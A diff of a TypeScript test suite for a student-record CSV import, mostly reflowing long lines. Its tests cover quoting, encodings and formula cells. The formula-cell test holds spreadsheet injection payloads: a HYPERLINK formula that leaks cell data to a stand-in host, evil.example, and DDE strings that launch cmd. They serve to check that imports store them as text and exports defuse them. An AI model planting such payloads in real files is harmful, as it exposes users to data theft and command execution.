@@ -15,8 +15,27 @@ beforeAll(async () => {
 }, 120_000);
 
 const HEADERS = [
-  'student_name', 'email_id', 'mobile_number', 'father_name', 'mother_name', 'date_of_birth', 'age', 'gender', 'course', 'entrance_exam', 'stream',
-  'board', 'passing_year', 'college_name', 'address', 'city', 'district', 'state', 'pincode', 'other_info', 'data_source',
+  'student_name',
+  'email_id',
+  'mobile_number',
+  'father_name',
+  'mother_name',
+  'date_of_birth',
+  'age',
+  'gender',
+  'course',
+  'entrance_exam',
+  'stream',
+  'board',
+  'passing_year',
+  'college_name',
+  'address',
+  'city',
+  'district',
+  'state',
+  'pincode',
+  'other_info',
+  'data_source',
 ] as const;
 type Field = (typeof HEADERS)[number];
 
@@ -25,10 +44,28 @@ const quote = (cell: string) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"'
 /** One valid row by default; `mobile` must differ between rows and files. */
 function row(mobile: string, overrides: Partial<Record<Field, string>> = {}): string {
   const values: Record<Field, string> = {
-    student_name: 'Kavya Nair', email_id: 'kavya@example.in', mobile_number: mobile, father_name: 'Suresh Nair', mother_name: 'Anita Nair',
-    date_of_birth: '2007-03-09', age: '17', gender: 'Female', course: 'B.Sc', entrance_exam: 'CUET', stream: 'Science', board: 'CBSE',
-    passing_year: '2025', college_name: 'Kendriya Vidyalaya', address: '7 Beach Road', city: 'Kochi', district: 'Ernakulam', state: 'Kerala',
-    pincode: '682001', other_info: '', data_source: '', ...overrides,
+    student_name: 'Kavya Nair',
+    email_id: 'kavya@example.in',
+    mobile_number: mobile,
+    father_name: 'Suresh Nair',
+    mother_name: 'Anita Nair',
+    date_of_birth: '2007-03-09',
+    age: '17',
+    gender: 'Female',
+    course: 'B.Sc',
+    entrance_exam: 'CUET',
+    stream: 'Science',
+    board: 'CBSE',
+    passing_year: '2025',
+    college_name: 'Kendriya Vidyalaya',
+    address: '7 Beach Road',
+    city: 'Kochi',
+    district: 'Ernakulam',
+    state: 'Kerala',
+    pincode: '682001',
+    other_info: '',
+    data_source: '',
+    ...overrides,
   };
   return HEADERS.map((header) => quote(values[header])).join(',');
 }
@@ -46,8 +83,10 @@ async function importBytes(bytes: BlobPart, name = 'students.csv') {
 }
 
 const sql = <T = Record<string, unknown>>(query: string, params: unknown[] = []) => t.db.orm.em.fork().execute(query, params) as Promise<T[]>;
-const studentByMobile = async (mobile: string) => (await sql('select student_name, address, other_info, city from students where mobile_number = ?', [mobile]))[0];
-const countByPrefix = async (prefix: string) => (await sql<{ n: number }>('select count(*)::int as n from students where mobile_number like ?', [`${prefix}%`]))[0]!.n;
+const studentByMobile = async (mobile: string) =>
+  (await sql('select student_name, address, other_info, city from students where mobile_number = ?', [mobile]))[0];
+const countByPrefix = async (prefix: string) =>
+  (await sql<{ n: number }>('select count(*)::int as n from students where mobile_number like ?', [`${prefix}%`]))[0]!.n;
 
 describe('quoting', () => {
   it('imports doubled quotes, commas and line breaks inside quoted cells exactly', async () => {
@@ -59,7 +98,10 @@ describe('quoting', () => {
     );
     expect(status).toBe(200);
     expect(body).toMatchObject({ imported: 2, status: 'completed', errors: [] });
-    expect(await studentByMobile('8100000001')).toMatchObject({ student_name: 'Priya "Pinky" Menon', address: 'Flat 4, "Sai" Apartments\nNear Temple,\r\nMG Road' });
+    expect(await studentByMobile('8100000001')).toMatchObject({
+      student_name: 'Priya "Pinky" Menon',
+      address: 'Flat 4, "Sai" Apartments\nNear Temple,\r\nMG Road',
+    });
     expect(await studentByMobile('8100000002')).toMatchObject({ other_info: '"quoted", with, commas' });
   });
 
@@ -71,11 +113,16 @@ describe('quoting', () => {
     expect(body.message).toMatch(/^The CSV file could not be read near line \d+: a quoted field is never closed\./);
     expect(body.message).toContain('Nothing was imported.');
     expect(await countByPrefix('8110')).toBe(0);
-    expect(await sql("select status, imported_records from import_batches where file_name = 'unclosed.csv'")).toEqual([{ status: 'failed', imported_records: 0 }]);
+    expect(await sql("select status, imported_records from import_batches where file_name = 'unclosed.csv'")).toEqual([
+      { status: 'failed', imported_records: 0 },
+    ]);
   });
 
   it('refuses text after a closing quote and a stray quote inside a cell, whole', async () => {
-    for (const [name, broken] of [['after-quote.csv', '"Kavya" Nair'], ['stray-quote.csv', 'Kav"ya']] as const) {
+    for (const [name, broken] of [
+      ['after-quote.csv', '"Kavya" Nair'],
+      ['stray-quote.csv', 'Kav"ya'],
+    ] as const) {
       const lines = [row('8120000001'), `${row('8120000002').replace('Kavya Nair', broken)}`];
       const raw = text(lines).replace(`"${broken.replaceAll('"', '""')}"`, broken);
       const { status, body } = await importBytes(raw, name);
@@ -121,7 +168,9 @@ describe('encodings', () => {
     const { status, body } = await importBytes(latin1);
     expect(status).toBe(200);
     expect(body).toMatchObject({ imported: 1, status: 'partial' });
-    expect(body.errors).toEqual([{ row: 3, message: 'The row holds characters that are not UTF-8. Save it from your spreadsheet as "CSV UTF-8 (comma delimited)" and upload it again.' }]);
+    expect(body.errors).toEqual([
+      { row: 3, message: 'The row holds characters that are not UTF-8. Save it from your spreadsheet as "CSV UTF-8 (comma delimited)" and upload it again.' },
+    ]);
     expect(await studentByMobile('8230000002')).toBeUndefined();
   });
 });
@@ -165,8 +214,8 @@ describe('formula cells', () => {
   it('imports them as text, and the admin export defuses them', async () => {
     const formulas: Partial<Record<Field, string>> = {
       student_name: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
-      father_name: '+cmd|\' /C calc\'!A0',
-      mother_name: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      father_name: "+cmd|' /C calc'!A0",
+      mother_name: "@SUM(1+1)*cmd|' /C calc'!A0",
       course: '-2+3',
       other_info: '=1+1',
     };
